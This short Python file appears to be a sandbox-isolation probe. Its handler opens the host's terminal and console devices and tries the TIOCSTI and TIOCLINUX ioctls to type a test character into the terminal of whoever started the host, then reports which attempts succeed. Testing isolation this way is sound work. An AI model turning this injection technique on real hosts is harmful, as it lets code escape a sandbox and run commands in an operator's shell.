"""Types into the terminal of whoever started the host."""

import fcntl
import os
from typing import Any

import attacking

PLACES = ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/dev/stdin", "/dev/stdout", "/proc/1/fd/0")
CODES = {"TIOCSTI": 0x5412, "TIOCLINUX": 0x541C, "TIOCSTI with more bits": 0x100005412}


def handler(event: Any, context: Any) -> Any:
    """What worked."""
    found = []
    for place in PLACES:
        fd = attacking.attempt(lambda: os.open(place, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
        if isinstance(fd, int):
            found += [[place, "TIOCSTI"]] if attacking.got(lambda: fcntl.ioctl(fd, 0x5412, b"x")) else []
            os.close(fd)
    ptmx = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
    refused = ("EPERM", "EIO", "ENOTTY")
    return found + [name for name, code in CODES.items() if attacking.call(16, ptmx, code, b"x") not in refused]
